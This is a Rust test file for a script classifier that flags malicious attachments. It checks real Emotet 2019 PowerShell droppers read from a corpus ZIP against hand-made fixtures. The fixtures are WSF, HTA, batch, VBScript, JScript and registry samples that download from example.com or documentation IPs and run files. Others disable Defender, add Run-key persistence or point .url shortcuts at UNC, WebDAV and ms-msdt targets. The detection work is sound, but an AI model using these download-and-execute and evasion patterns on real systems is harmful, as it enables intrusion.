//! Tests of script classification and assessment: the Emotet 2019 PowerShell downloaders and
//! VBA texts (read from the corpus ZIP in memory), the SpamAssassin easy-ham mails (nothing is a
//! script), the real `.url` attachment of easy-ham 00775, hand-made fixtures in the style of
//! public write-ups (benign payloads: calc.exe, example.com, documentation addresses), and
//! mutations.

use std::io::Read;

use base64::Engine as _;

use super::encoder::tests::encode;
use super::*;

const DROPPERS: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/../../../shared/corpus/office/emotet-droppers-2019-06.zip"
);
const EASY_HAM: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/../../../shared/corpus/mail/spamassassin-public/easy-ham-1"
);
const SPAM: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/../../../shared/corpus/mail/spamassassin-public/spam-1"
);

/// Entries under `prefix` in the dropper ZIP, decrypted in memory (never written to disk).
fn corpus_entries(prefix: &str) -> Vec<(String, Vec<u8>)> {
    let data = std::fs::read(DROPPERS)
        .expect("corpus ZIP ../shared/corpus/office/emotet-droppers-2019-06.zip");
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(data)).expect("zip");
    let names: Vec<String> = zip
        .file_names()
        .filter_map(|n| n.ok())
        .map(|n| n.into_owned())
        .collect();
    let mut out = Vec::new();
    for name in names {
        if !name.starts_with(prefix) || name.ends_with('/') {
            continue;
        }
        let mut entry = zip.by_name_decrypt(&name, b"infected").expect("decrypt");
        let mut buf = Vec::new();
        entry.read_to_end(&mut buf).expect("read");
        out.push((name, buf));
    }
    out.sort();
    out
}

/// The `*.txt` mails of a corpus folder (which must exist and be full).
fn mails(dir: &str, want: usize) -> Vec<(String, Vec<u8>)> {
    let mut out: Vec<(String, Vec<u8>)> = std::fs::read_dir(dir)
        .expect("corpus folder")
        .map(|e| e.expect("entry").path())
        .filter(|p| p.extension().is_some_and(|e| e == "txt"))
        .map(|p| {
            let name = p.file_name().unwrap().to_string_lossy().into_owned();
            (name, std::fs::read(&p).expect("read"))
        })
        .collect();
    out.sort();
    assert_eq!(out.len(), want, "{dir}");
    out
}

fn ids(r: &ScriptRisk) -> Vec<&'static str> {
    r.signals.iter().map(|s| s.id).collect()
}

fn evidence_of<'a>(r: &'a ScriptRisk, id: &str) -> &'a str {
    r.signals
        .iter()
        .find(|s| s.id == id)
        .map_or("", |s| s.evidence.as_str())
}

/// `kind downloads executes critical | ids | lolbins`.
fn verdict(r: &ScriptRisk) -> String {
    format!(
        "{} {}{}{} | {} | {}",
        r.kind.as_str(),
        if r.downloads { "D" } else { "-" },
        if r.executes { "X" } else { "-" },
        if r.critical { "!" } else { "-" },
        ids(r).join(","),
        r.lolbins.join(",")
    )
}

#[test]
fn script_emotet_2019_powershell_downloaders() {
    let ps = corpus_entries("unique_powershell/");
    assert_eq!(ps.len(), 13);
    for (name, data) in &ps {
        // Named by SHA-256 only: classified by content.
        let hash = name.rsplit('/').next().unwrap();
        assert_eq!(classify(None, data), Some(ScriptKind::PowerShell), "{name}");
        assert_eq!(
            classify(Some(hash), data),
            Some(ScriptKind::PowerShell),
            "{name}"
        );
        let r = assess(ScriptKind::PowerShell, data);
        assert!(
            r.downloads && r.executes && r.critical,
            "{name}: {}",
            verdict(&r)
        );
        assert!(
            r.has("download") && r.has("url") && r.has("shell-exec"),
            "{name}"
        );
        assert!(!r.truncated && r.shortcut.is_none());
        assert!(
            r.signals
                .iter()
                .all(|s| s.evidence.chars().count() <= EVIDENCE_CHARS)
        );
    }
    // Net.WebClient 11, DownloadFile 10, Invoke-Item 7 (spec §5), seen through the obfuscation.
    let count = |id: &str, needle: &str| {
        ps.iter()
            .filter(|(_, d)| evidence_of(&assess(ScriptKind::PowerShell, d), id).contains(needle))
            .count()
    };
    assert_eq!(count("download", "webclient"), 13);
    assert_eq!(count("download", "downloadfile"), 13);
    assert_eq!(count("shell-exec", "invoke-item"), 11);

    // The obfuscated layers alone (the extracts end with the decoded layer: cut it off): split
    // strings, backticks and `-replace`/`.replace` pairs are peeled until the downloader shows.
    for prefix in ["unique_powershell/2d4fd302", "unique_powershell/5b0bfbb9"] {
        let (name, data) = corpus_entries(prefix).pop().expect("sample");
        let text = String::from_utf8_lossy(&data);
        let layers = &text[..text.rfind("\n$nsadasd").expect("decoded layer")];
        let lower = layers.to_lowercase();
        assert!(
            !lower.contains("webclient") && !lower.contains("invoke-item"),
            "{name}"
        );
        let r = assess(ScriptKind::PowerShell, layers.as_bytes());
        let want = [
            "download",
            "url",
            "shell-exec",
            "invoke-expression",
            "replace-chain",
        ];
        assert!(want.iter().all(|id| r.has(id)), "{name}: {}", verdict(&r));
        assert!(r.critical);
        assert!(
            evidence_of(&r, "download").contains("downloadfile"),
            "{name}"
        );
        assert_eq!(
            classify(None, layers.as_bytes()),
            Some(ScriptKind::PowerShell)
        );
    }
}

#[test]
fn script_emotet_2019_vba_texts_are_not_powershell_or_batch() {
    let macros = corpus_entries("unique_macros/");
    assert_eq!(macros.len(), 18);
    for (name, data) in &macros {
        assert_eq!(classify(None, data), None, "{name}: VBA module text");
        // Even without their `Attribute VB_` lines, and whatever their text holds.
        let text = String::from_utf8_lossy(data);
        let body: Vec<&str> = text
            .lines()
            .filter(|l| !l.starts_with("Attribute "))
            .collect();
        let kind = classify(None, body.join("\n").as_bytes());
        let bad = [Some(ScriptKind::PowerShell), Some(ScriptKind::Batch)];
        assert!(!bad.contains(&kind), "{name}: {kind:?}");
    }
}

#[test]
fn script_mail_corpora_are_not_scripts() {
    for (dir, want) in [(EASY_HAM, 2500), (SPAM, 500)] {
        for (name, data) in mails(dir, want) {
            assert_eq!(classify(None, &data), None, "{name}");
        }
    }
}

/// The `.url` attachment of easy-ham 00775 (7bit, so its bytes are the part body).
fn easy_ham_url() -> Vec<u8> {
    let mail = std::fs::read(format!(
        "{EASY_HAM}/00775.0e012f373467846510d9db297e99a008.txt"
    ))
    .expect("easy-ham 00775");
    let mail = String::from_utf8_lossy(&mail).into_owned();
    let part = &mail[mail.find("filename=\"Liberalism in America.url\"").unwrap()..];
    let body = &part[part.find("\n\n").unwrap() + 2..];
    let end = body.find("\n------=_NextPart").unwrap();
    body.as_bytes()[..end].to_vec()
}

#[test]
fn script_url_shortcuts() {
    // Real: easy-ham 00775 (Outlook 2002), an http target → low.
    let real = easy_ham_url();
    let s = parse_url_shortcut(&real).expect("InternetShortcut");
    let page = "http://www.english.upenn.edu/~afilreis/50s/schleslib.html";
    assert_eq!(s.url.as_deref(), Some(page));
    assert_eq!(s.base_url.as_deref(), Some(page));
    assert_eq!((s.icon_file.as_deref(), s.icon_index), (None, None));
    assert!(s.anomalies.is_empty(), "{:?}", s.anomalies);
    let r = assess_url_shortcut(&s);
    assert_eq!(r.level, UrlLevel::Low);
    assert_eq!(r.signals.len(), 1);
    assert_eq!(r.signals[0].0.id, "web-target");
    assert_eq!(classify(None, &real), Some(ScriptKind::InternetShortcut));
    assert_eq!(
        classify(Some("Liberalism in America.url"), &real),
        Some(ScriptKind::InternetShortcut)
    );
    let risk = assess(ScriptKind::InternetShortcut, &real);
    assert!(risk.has("web-target") && risk.has("url") && !risk.critical);
    assert_eq!(
        risk.shortcut.as_ref().map(|(_, r)| r.level),
        Some(UrlLevel::Low)
    );

    // Built bytewise in the shapes the spec lists (§2.15).
    let cases: [(&str, UrlLevel, &str); 14] = [
        (
            "URL=https://example.com/invoice",
            UrlLevel::Low,
            "web-target",
        ),
        (
            "URL=file:///C:/Windows/System32/calc.exe",
            UrlLevel::High,
            "file-target,executable-target",
        ),
        (
            r"URL=file://\\203.0.113.5\share\invoice.js",
            UrlLevel::High,
            "unc-target,executable-target",
        ),
        (
            r"URL=\\203.0.113.5\share\doc.pdf",
            UrlLevel::High,
            "unc-target",
        ),
        (
            r"URL=\\files.example.com@SSL\DavWWWRoot\a.hta",
            UrlLevel::High,
            "webdav-target,executable-target",
        ),
        (
            r"URL=file://files.example.com@80/dav/a.vbs",
            UrlLevel::High,
            "webdav-target,executable-target",
        ),
        (
            r"URL=search-ms:query=invoice&crumb=location:\\203.0.113.5@8080\s&displayname=Invoices",
            UrlLevel::High,
            "search-ms-target",
        ),
        ("URL=search:query=x", UrlLevel::High, "search-ms-target"),
        (
            "URL=ms-msdt:/id PCWDiagnostic /skip force",
            UrlLevel::High,
            "protocol-handler",
        ),
        (
            "URL=zoommtg://example.com/join",
            UrlLevel::Medium,
            "unusual-scheme",
        ),
        (
            "URL=http://203.0.113.9/update.exe?x=1",
            UrlLevel::High,
            "web-target,executable-target,ip-host",
        ),
        (
            r"URL=C:\Users\Public\run.bat",
            UrlLevel::High,
            "file-target,executable-target",
        ),
        (
            "URL=https://example.com/\r\nIconFile=\\\\203.0.113.5\\icons\\pdf.ico\r\nIconIndex=3",
            UrlLevel::High,
            "web-target,remote-icon",
        ),
        (
            "IconFile=C:\\Windows\\System32\\shell32.dll\r\nIconIndex=-5",
            UrlLevel::Low,
            "no-target",
        ),
    ];
    for (body, level, want) in cases {
        let data = format!("[InternetShortcut]\r\n{body}\r\n");
        let s = parse_url_shortcut(data.as_bytes()).expect(body);
        let r = assess_url_shortcut(&s);
        let got: Vec<&str> = r.signals.iter().map(|(s, _)| s.id).collect();
        assert_eq!(
            (r.level, got.join(",")),
            (level, want.to_string()),
            "{body}"
        );
        assert!(
            r.signals
                .iter()
                .all(|(s, _)| s.category == Category::Target)
        );
        assert_eq!(
            classify(None, data.as_bytes()),
            Some(ScriptKind::InternetShortcut)
        );
    }
    let s = parse_url_shortcut(b"[InternetShortcut]\nIconFile=x\nIconIndex=-5\n").unwrap();
    assert_eq!(s.icon_index, Some(-5));

    // UTF-16LE with a BOM, as some tools write it; duplicates and a bad index are anomalies.
    let text = "[InternetShortcut]\r\nURL=file:///C:/x.hta\r\nURL=https://example.com/\r\nIconIndex=x\r\nWorkingDirectory=\\\\host\\s\r\n";
    let wide: Vec<u8> = [0xFF, 0xFE]
        .into_iter()
        .chain(text.encode_utf16().flat_map(u16::to_le_bytes))
        .collect();
    let s = parse_url_shortcut(&wide).unwrap();
    assert_eq!(s.url.as_deref(), Some("file:///C:/x.hta"));
    assert_eq!(s.working_directory.as_deref(), Some(r"\\host\s"));
    assert_eq!(
        s.anomalies,
        [
            "duplicate url (the first one counts)",
            "IconIndex \"x\" is no number"
        ]
    );
    let r = assess_url_shortcut(&s);
    assert_eq!(r.level, UrlLevel::High);
    assert!(
        r.signals
            .iter()
            .any(|(s, _)| s.id == "remote-working-directory")
    );
    assert_eq!(classify(None, &wide), Some(ScriptKind::InternetShortcut));

    // `@digits` in a web path is no WebDAV host.
    let s = parse_url_shortcut(b"[InternetShortcut]\nURL=https://example.com/u@123/x\n").unwrap();
    assert_eq!(assess_url_shortcut(&s).level, UrlLevel::Low);

    // Not shortcuts; a `.url` that is none is said to be malformed.
    assert_eq!(parse_url_shortcut(b"[Other]\nURL=http://x/\n"), None);
    let r = assess(ScriptKind::InternetShortcut, b"URL=http://x/\n");
    assert_eq!(
        verdict(&r),
        "internet-shortcut --- | malformed-shortcut,url | "
    );
    assert!(r.shortcut.is_none());
    assert_eq!(parse_url_shortcut(b""), None);
    let mut long = b"[InternetShortcut]\nURL=http://example.com/".to_vec();
    long.extend(std::iter::repeat_n(b'a', MAX_VALUE + 10));
    let s = parse_url_shortcut(&long).unwrap();
    assert_eq!(s.url.as_ref().unwrap().chars().count(), MAX_VALUE);
    assert!(s.anomalies[0].contains("cut at"));
}

const WSF: &str = r#"<?xml version="1.0"?>
<package>
  <job id="Invoice">
    <script language="JScript">
      <![CDATA[
        var x = new ActiveXObject("MSXML2.XMLHTTP");
        x.open("GET", "http://example.com/update.txt", false);
        x.send();
        var st = new ActiveXObject("ADODB.Stream");
        st.Open(); st.Type = 1; st.Write(x.responseBody);
        st.SaveToFile("C:\\Users\\Public\\update.exe", 2);
        WScript.CreateObject("WScript.Shell").Run("C:\\Users\\Public\\update.exe", 0);
      ]]>
    </script>
  </job>
</package>
"#;

const HTA: &str = r#"<html><head><title>Document viewer</title>
<HTA:APPLICATION ID="viewer" APPLICATIONNAME="viewer" BORDER="none" SHOWINTASKBAR="no" WINDOWSTATE="minimize"/>
<script language="VBScript">
Set sh = CreateObject("WScript.Shell")
sh.Run "powershell -nop -w hidden -c ""IEX (New-Object Net.WebClient).DownloadString('http://example.com/a.ps1')""", 0
self.close
</script></head><body></body></html>
"#;

const BAT: &str = "@echo off\r\nset u=http://example.com/x.dat\r\ncurl -s -o %TEMP%\\x.dll %u%\r\nrundll32 %TEMP%\\x.dll,DllRegisterServer\r\n";

/// No `@echo off`: recognised by its lines and batch-only tokens.
const BAT_OBFUSCATED: &str = "setlocal enabledelayedexpansion\r\nset a=%COMSPEC:~-7,1%%COMSPEC:~-1%%COMSPEC:~-13,1%\r\nif not exist %TEMP%\\a.exe (\r\n  p^o^w^e^r^s^h^e^l^l -w hidden -c \"iwr http://example.com/a -OutFile %TEMP%\\a.exe\"\r\n)\r\nstart \"\" %TEMP%\\a.exe >nul 2>&1\r\ngoto :eof\r\n";

const VBS: &str = "Dim http, sh\r\nSet http = CreateObject(\"MSXML2.XMLHTTP\")\r\nhttp.Open \"GET\", \"http://203.0.113.7/calc.txt\", False\r\nhttp.Send\r\nSet sh = CreateObject(\"WScript.Shell\")\r\nsh.Run \"cmd /c calc.exe\", 0, False\r\n";

const JS: &str = "var sh = new ActiveXObject(\"WScript.Shell\");\r\nvar h = new ActiveXObject(\"WinHttp.WinHttpRequest.5.1\");\r\nh.Open(\"GET\", \"https://example.com/x.txt\", false);\r\nh.Send();\r\nsh.Run(\"mshta https://example.com/a.hta\");\r\n";

/// `Execute` of char codes spelling `MsgBox "calc"`.
fn vbs_char_codes() -> String {
    let codes: Vec<String> = "MsgBox \"calc\""
        .bytes()
        .map(|b| format!("Chr({b})"))
        .collect();
    format!(
        "Dim s\r\ns = {}\r\nExecute s\r\nSet o = CreateObject(\"Scripting.Dictionary\")\r\n",
        codes.join(" & ")
    )
}

#[test]
fn script_handmade_fixtures() {
    let vbe = encode(VBS.as_bytes());
    let jse = encode(JS.as_bytes());
    let chars = vbs_char_codes();
    let cases: Vec<(&str, Vec<u8>, ScriptKind, &str)> = vec![
        (
            "invoice.wsf",
            WSF.into(),
            ScriptKind::Wsf,
            "wsf DX! | download,url,file-write,shell-object,shell-exec | ",
        ),
        (
            "document.hta",
            HTA.into(),
            ScriptKind::Hta,
            "hta DX! | no-profile,hidden-window,invoke-expression,download,url,shell-object,shell-exec | powershell",
        ),
        (
            "run.bat",
            BAT.into(),
            ScriptKind::Batch,
            "batch DX! | download,url | rundll32,curl",
        ),
        (
            "run.cmd",
            BAT_OBFUSCATED.into(),
            ScriptKind::Batch,
            "batch DX! | hidden-window,download,url,caret-escapes,env-substring,shell-exec | powershell",
        ),
        (
            "invoice.vbs",
            VBS.into(),
            ScriptKind::VBScript,
            "vbscript DX! | download,url,cmd-c,ip-url,shell-object,shell-exec | cmd",
        ),
        (
            "invoice.js",
            JS.into(),
            ScriptKind::JScript,
            "jscript DX! | download,url,shell-object,shell-exec | mshta",
        ),
        (
            "invoice.vbe",
            vbe.clone(),
            ScriptKind::VBScriptEncoded,
            "vbscript-encoded DX! | encoded-script,download,url,cmd-c,ip-url,shell-object,shell-exec | cmd",
        ),
        (
            "invoice.jse",
            jse.clone(),
            ScriptKind::JScriptEncoded,
            "jscript-encoded DX! | encoded-script,download,url,shell-object,shell-exec | mshta",
        ),
        (
            "hello.vbs",
            chars.clone().into(),
            ScriptKind::VBScript,
            "vbscript --- | dynamic-eval,char-codes | ",
        ),
    ];
    for (name, data, kind, want) in &cases {
        assert_eq!(classify(Some(name), data), Some(*kind), "{name} by name");
        assert_eq!(classify(None, data), Some(*kind), "{name} by content");
        assert_eq!(
            classify(Some("scan0001.pdf"), data),
            Some(*kind),
            "{name} misnamed"
        );
        assert_eq!(verdict(&assess(*kind, data)), *want, "{name}");
    }
    // Encoded under a plain name; the plain text under an encoded name.
    assert_eq!(
        classify(Some("a.vbs"), &vbe),
        Some(ScriptKind::VBScriptEncoded)
    );
    assert_eq!(
        classify(Some("a.vbe"), VBS.as_bytes()),
        Some(ScriptKind::VBScript)
    );
    assert_eq!(
        classify(Some("a.JS. . "), JS.as_bytes()),
        Some(ScriptKind::JScript)
    );
    assert_eq!(
        classify(Some(r"dir\x.PS1"), b"x"),
        Some(ScriptKind::PowerShell)
    );
    assert_eq!(classify(Some("x.psm1"), b""), Some(ScriptKind::PowerShell));
    assert_eq!(classify(Some("x.reg"), b""), Some(ScriptKind::Registry));
    assert_eq!(classify(Some("x.txt"), b"hello"), None);
    assert_eq!(classify(None, b""), None);

    let r = assess(ScriptKind::VBScript, chars.as_bytes());
    assert_eq!(
        evidence_of(&r, "char-codes"),
        "13 times, decoding to \"MsgBox \\\"calc\\\"\""
    );
    let r = assess(ScriptKind::VBScriptEncoded, &vbe);
    assert_eq!(
        evidence_of(&r, "encoded-script"),
        "1 Script Encoder block(s) decoded"
    );
    assert_eq!(evidence_of(&r, "ip-url"), "http://203.0.113.7/calc.txt");
    let r = assess(ScriptKind::Hta, HTA.as_bytes());
    assert_eq!(evidence_of(&r, "download"), "Net.WebClient, DownloadString");
    // A harmless script: a kind by name, nothing to report.
    let r = assess(ScriptKind::VBScript, b"MsgBox \"Hello\"\r\n");
    assert_eq!(verdict(&r), "vbscript --- |  | ");
    assert_eq!(classify(None, b"MsgBox \"Hello\"\r\n"), None);
}

#[test]
fn script_encoder_public_vectors() {
    // Worked example in the Script Encoder write-ups (length 14, checksum 1192).
    let d = encoder::decode(b"#@~^DgAAAA==\\ko$K6,JC\x7FV^GJqAQAAA==^#~@").unwrap();
    assert_eq!(d.text, b"MsgBox \"Hello\"");
    // A classic ASP page (screnc output) with its `<%@ LANGUAGE = VBScript.Encode %>` line.
    let asp = b"<%@ LANGUAGE = VBScript.Encode %>\n<%#@~^IAAAAA==~U+.7+MR?1Db2Y:kh+KEO~{PFZT!Z!!,DwoAAA==^#~@%>\n";
    let d = encoder::decode(asp).unwrap();
    assert_eq!(
        String::from_utf8_lossy(&d.text),
        "<%@ LANGUAGE = VBScript.Encode %>\n<% Server.ScriptTimeout = 1000000 %>\n"
    );
    assert_eq!((d.blocks, d.mismatches), (1, 0));
    // CSCG 2020 "Polyrun" write-up: one character was lost when the write-up was typeset, so
    // the length and checksum disagree; the text still decodes.
    let cscg = b"#@~^UgAAAA==v,Zj;MPKtb/|r/|Y4+|0sCT{XKN@#@&H/T$G6,J;?/M,P_qj{g6K|I3)d{sJ)VTE~,#~rF}x^X~,JgGwJexkAAA==^#~@";
    let d = encoder::decode(cscg).unwrap();
    let text = String::from_utf8_lossy(&d.text);
    assert!(text.starts_with("' CSCG{This_is_the_flag_yo}\r\nMsgBox \"CSCG[THIS_NOT_REAL_FLAG]\""));
    assert_eq!(d.mismatches, 1);
    let r = assess(ScriptKind::VBScriptEncoded, cscg);
    assert!(evidence_of(&r, "encoded-script").contains("1 with a wrong length or checksum"));
    assert_eq!(classify(None, cscg), Some(ScriptKind::VBScriptEncoded));
    let r = assess(ScriptKind::VBScriptEncoded, b"#@~^ZZ");
    assert_eq!(r.signals.len(), 0, "no block header at all: nothing to say");
    let r = assess(ScriptKind::VBScriptEncoded, b"#@~^DgAAAA==\\ko$K6");
    assert_eq!(
        evidence_of(&r, "encoded-script"),
        "undecodable: offset 0: encoded block has no ^#~@ end marker"
    );
}

#[test]
fn script_assess_rules() {
    let enc = |s: &str| {
        let wide: Vec<u8> = s.encode_utf16().flat_map(u16::to_le_bytes).collect();
        base64::engine::general_purpose::STANDARD.encode(wide)
    };
    let payload = enc("IEX (New-Object Net.WebClient).DownloadString('http://example.com/a')");
    let ps_enc = format!(
        "Set sh = CreateObject(\"WScript.Shell\")\r\nsh.Run \"powershell -enc {payload}\", 0\r\n"
    );
    let reg = "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n\"Updater\"=\"mshta.exe \\\"http://example.com/a.hta\\\"\"\r\n";
    let reg_wide: Vec<u8> = [0xFF, 0xFE]
        .into_iter()
        .chain(reg.encode_utf16().flat_map(u16::to_le_bytes))
        .collect();
    let cases: Vec<(ScriptKind, Vec<u8>, &str)> = vec![
        (ScriptKind::VBScript, ps_enc.into(),
            "vbscript DX! | encoded-command,invoke-expression,download,url,shell-object,shell-exec | powershell"),
        (ScriptKind::Registry, reg_wide,
            "registry DX! | url,persistence | mshta"),
        (ScriptKind::Batch, b"schtasks /create /sc minute /tn up /tr \"calc.exe\"\r\nreg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d calc.exe /f\r\n".to_vec(),
            "batch -X- | persistence | schtasks"),
        (ScriptKind::PowerShell, b"New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name x -Value calc.exe\r\nSet-ExecutionPolicy Bypass -Scope Process\r\nSet-MpPreference -DisableRealtimeMonitoring $true\r\n".to_vec(),
            "powershell --- | persistence,execution-policy,defense-evasion | "),
        (ScriptKind::Batch, b"certutil -urlcache -split -f http://example.com/a.txt %TEMP%\\a.exe\r\nbitsadmin /transfer j http://example.com/b %TEMP%\\b.exe\r\n".to_vec(),
            "batch DX! | download,url | certutil,bitsadmin"),
        (ScriptKind::JScript, b"eval(String.fromCharCode(99,97,108,99));".to_vec(),
            "jscript --- | dynamic-eval,char-codes | "),
        (ScriptKind::PowerShell, b"$a = [char]99+[char]97+[char]108+[char]99+[char]46+[char]101\r\n& ($a -join '')\r\n".to_vec(),
            "powershell --- | char-codes,string-join | "),
        (ScriptKind::PowerShell, format!("$b = '{}'\r\n", "QUJD".repeat(60)).into_bytes(),
            "powershell --- | base64-blob | "),
        (ScriptKind::PowerShell, b"$w = New-Object Net.WebClient\r\n$b = [Convert]::FromBase64String('aQBlAHgAIAAoAGcAYwAgAGMAOgBcAHgAKQA=')\r\n".to_vec(),
            "powershell DX! | invoke-expression,download | "),
    ];
    for (kind, data, want) in &cases {
        assert_eq!(verdict(&assess(*kind, data)), *want);
    }
    // Decoded `-enc` and FromBase64String literals are read too (the IEX of the last case).
    let r = assess(cases[0].0, &cases[0].1);
    assert!(evidence_of(&r, "encoded-command").contains("decodes to \"IEX (New-Object"));
    assert_eq!(classify(None, &cases[1].1), Some(ScriptKind::Registry));
    assert_eq!(
        classify(None, &cases[2].1),
        None,
        "two lines of commands are not enough"
    );
    let r = assess(ScriptKind::PowerShell, &cases[8].1);
    assert!(text::peel(&String::from_utf8_lossy(&cases[8].1)).contains("iex (gc c:\\x)"));
    assert_eq!(evidence_of(&r, "download"), "Net.WebClient");

    // `cscript //nologo`; a "script" that is a PE says so.
    let r = assess(ScriptKind::Batch, b"cscript //nologo %TEMP%\\a.js\r\n");
    assert_eq!(verdict(&r), "batch -X- |  | cscript");
    let r = assess(ScriptKind::JScript, b"MZ\x90\x00\x03\x00\x00\x00\x04\x00");
    assert_eq!(verdict(&r), "jscript --- | binary-content | ");

    // Evidence is cut; a long file is assessed up to MAX_SCAN and says so.
    let long_url = format!("http://example.com/{}", "a".repeat(500));
    let r = assess(ScriptKind::JScript, long_url.as_bytes());
    assert_eq!(evidence_of(&r, "url").chars().count(), EVIDENCE_CHARS);
    let mut big = b"var x = new ActiveXObject(\"MSXML2.XMLHTTP\");\n".to_vec();
    big.resize(MAX_SCAN + 10, b' ');
    big.extend_from_slice(b"WScript.Shell.Run(x)");
    let r = assess(ScriptKind::JScript, &big);
    assert!(r.truncated && r.has("truncated") && r.has("download") && !r.has("shell-object"));
    assert_eq!(
        evidence_of(&r, "truncated"),
        format!("only the first {MAX_SCAN} of {} bytes assessed", big.len())
    );
    // A replace pair that would blow the text up is not applied past the bound.
    let mut bomb = b".replace('a','bbbbbbbbbbbbbbbb')\n".to_vec();
    bomb.extend(std::iter::repeat_n(b'a', 1 << 20));
    let view = text::peel(&String::from_utf8_lossy(&bomb));
    assert!(view.len() <= 2 * bomb.len() + 1024);
}

#[test]
fn script_prose_and_other_languages_are_not_scripts() {
    let texts: [&str; 9] = [
        "Hi Bob,\n\nSet up the new server by Friday. Dim the lights when you leave.\nEnd if possible.\n\n-- \nAlice\n",
        "#!/usr/bin/perl\nuse strict;\nmy $x = 1;\nforeach my $f (@ARGV) { print \"$f\\n\"; }\n$ENV{PATH} = '/bin';\n",
        "#!/bin/sh\nset -e\nif [ -f /etc/passwd ]; then echo ok; fi\nfor f in *.txt; do cat \"$f\"; done\nexit 0\n",
        "<html><head><script>var x = 1; function f() { return x; }\nwindow.onload = f;</script></head><body>Hi</body></html>\n",
        "import os\nos.system(\"cmd /c dir\")\nprint('done')\n",
        "{\"cmd\": \"powershell -nop\", \"url\": \"http://example.com\"}\n",
        "To run it, type:\n\n  @echo off\n  start calc.exe\n\nin a command window.\n",
        "[section]\nkey=value\n[InternetShortcut]\nURL=http://example.com/\nthis is not ini\n",
        "function f(a) {\n  var s = \"x\";\n  try { eval(a); } catch (e) { }\n  return s;\n}\n",
    ];
    for t in texts {
        assert_eq!(classify(None, t.as_bytes()), None, "{t}");
    }
    // Binary data is no script either, whatever it contains.
    let mut pe = b"MZ\x90\x00\x03\x00\x00\x00".to_vec();
    pe.extend_from_slice(b"@echo off\r\npowershell -enc AAAA\r\n");
    assert_eq!(classify(None, &pe), None);
}

/// Deterministic xorshift mutations of every fixture: no panic, bounded output.
#[test]
fn script_robust_against_3000_mutated_inputs() {
    let mut bases: Vec<(&str, Vec<u8>)> = vec![
        ("a.wsf", WSF.into()),
        ("a.hta", HTA.into()),
        ("a.bat", BAT.into()),
        ("a.cmd", BAT_OBFUSCATED.into()),
        ("a.vbs", VBS.into()),
        ("a.js", JS.into()),
        ("a.vbe", encode(VBS.as_bytes())),
        ("a.url", easy_ham_url()),
        (
            "a.url",
            b"[InternetShortcut]\r\nURL=\\\\h@SSL\\DavWWWRoot\\a.js\r\nIconFile=http://x/i.ico\r\n"
                .to_vec(),
        ),
        ("a.vbs", vbs_char_codes().into_bytes()),
    ];
    bases.extend(
        corpus_entries("unique_powershell/")
            .into_iter()
            .take(3)
            .map(|(_, d)| ("a.ps1", d)),
    );
    let inserts: [&[u8]; 8] = [
        b"#@~^DgAAAA==",
        b"^#~@",
        b"'+'",
        b".replace('a','bbbbbbbbbbbbbbbb')",
        b"@",
        b"\xFF\xFE",
        b"\r\n[InternetShortcut]\r\n",
        b"Chr(65) & Chr(66) & Chr(67)",
    ];
    let kinds = [
        ScriptKind::JScript,
        ScriptKind::VBScriptEncoded,
        ScriptKind::PowerShell,
        ScriptKind::Batch,
        ScriptKind::InternetShortcut,
        ScriptKind::Registry,
    ];
    let mut state = 0x5343_5249_5054_4B45u64;
    let mut rng = |n: usize| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        (state % n.max(1) as u64) as usize
    };
    for round in 0..3000 {
        let (name, base) = &bases[round % bases.len()];
        let mut d = base.clone();
        for _ in 0..=rng(3) {
            let len = d.len();
            match rng(4) {
                0 => d.truncate(rng(len + 1)),
                1 => (0..=rng(8)).for_each(|_| {
                    let i = rng(len);
                    if let Some(b) = d.get_mut(i) {
                        *b ^= 1 << (i % 8);
                    }
                }),
                2 => {
                    let at = rng(len + 1);
                    let ins = inserts[rng(inserts.len())].repeat(1 + rng(4));
                    d.splice(at..at, ins);
                }
                _ => d.extend((0..rng(64)).map(|i| (i * 37) as u8)),
            }
        }
        let _ = classify(Some(name), &d);
        let _ = classify(None, &d);
        let r = assess(kinds[round % kinds.len()], &d);
        assert!(r.signals.len() <= 48, "{}", verdict(&r));
        let mut seen = std::collections::HashSet::new();
        assert!(r.signals.iter().all(|s| seen.insert(s.id)), "ids once");
        assert!(
            r.signals
                .iter()
                .all(|s| s.evidence.chars().count() <= EVIDENCE_CHARS)
        );
        if let Some(s) = parse_url_shortcut(&d) {
            assert!(s.anomalies.len() <= MAX_LINES + 2);
            assert!(
                s.url
                    .as_ref()
                    .is_none_or(|u| u.chars().count() <= MAX_VALUE)
            );
            let _ = assess_url_shortcut(&s);
        }
        if let Ok(dec) = encoder::decode(&d) {
            assert!(dec.text.len() <= d.len());
        }
    }
}

/// Every file under `dir`, recursively.
fn tree(dir: &std::path::Path, out: &mut Vec<std::path::PathBuf>) {
    for e in std::fs::read_dir(dir).expect("corpus folder") {
        let p = e.expect("entry").path();
        if p.is_dir() {
            tree(&p, out);
        } else {
            out.push(p);
        }
    }
}

#[test]
fn script_source_code_and_test_mail_are_not_scripts() {
    // Rust sources that quote PowerShell command lines and HTA tags in their strings.
    for src in [
        include_str!("../lnk.rs"),
        include_str!("../cmdline.rs"),
        include_str!("detect.rs"),
        include_str!("tests.rs"),
    ] {
        assert_eq!(classify(None, src.as_bytes()), None);
    }
    assert_eq!(
        classify(None, b"#!/bin/sh\ncurl -o x http://example.com/x && ./x\n"),
        None
    );
    // SpamAssassin's own test mail (macro, encrypted and CJK messages) and mail-parser's MIME
    // edge cases.
    let base = concat!(env!("CARGO_MANIFEST_DIR"), "/../../../shared/corpus/mail/");
    let mut files = Vec::new();
    tree(
        &std::path::Path::new(base).join("spamassassin-tests"),
        &mut files,
    );
    tree(&std::path::Path::new(base).join("mail-parser"), &mut files);
    assert_eq!(files.len(), 134 + 107);
    for f in files {
        let data = std::fs::read(&f).expect("read");
        assert_eq!(classify(None, &data), None, "{}", f.display());
    }
}
